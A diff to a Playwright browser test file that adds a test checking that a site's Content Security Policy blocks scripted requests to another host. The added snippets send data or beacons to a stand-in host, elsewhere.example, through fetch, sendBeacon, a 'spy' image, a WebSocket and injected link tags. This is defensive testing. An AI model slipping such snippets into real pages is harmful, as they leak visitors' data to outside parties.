@@ -6,6 +6,7 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import Browser, Page, Route
 
+from tests.browser.conftest import watched
 from tests.browser.hosting import REFUSALS, server, serving
 
 SLIPPED_IN = """
@@ -75,3 +76,23 @@ def test_what_is_slipped_into_a_page_does_nothing(
         "script-src-elem", "script-src-attr", "script-src", "style-src-elem", "style-src-attr",
         "img-src", "frame-src", "form-action", "connect-src",
     }  # fmt: skip
+
+
+ASKS = (
+    'fetch("https://elsewhere.example/").catch(() => {})',
+    'navigator.sendBeacon("https://elsewhere.example/", "here")',
+    'new Image().src = "https://elsewhere.example/spy.png"',
+    'new WebSocket("wss://elsewhere.example/")',
+    'document.head.insertAdjacentHTML("beforeend", `<link rel="prefetch" href="https://elsewhere.example/">`)',
+    'document.head.insertAdjacentHTML("beforeend", `<link rel="stylesheet" href="https://elsewhere.example/">`)',
+)
+
+
+def test_a_request_to_another_host_is_a_complaint(browser: Browser, site_url: str) -> None:
+    with watched(browser, site_url) as (page, complaints):
+        page.goto("/method/")
+        for asked in ASKS:
+            complaints.clear()
+            with page.expect_console_message():
+                page.evaluate(f"() => {{ {asked} }}")
+            assert any("elsewhere.example" in line and "Content Security Policy" in line for line in complaints), asked
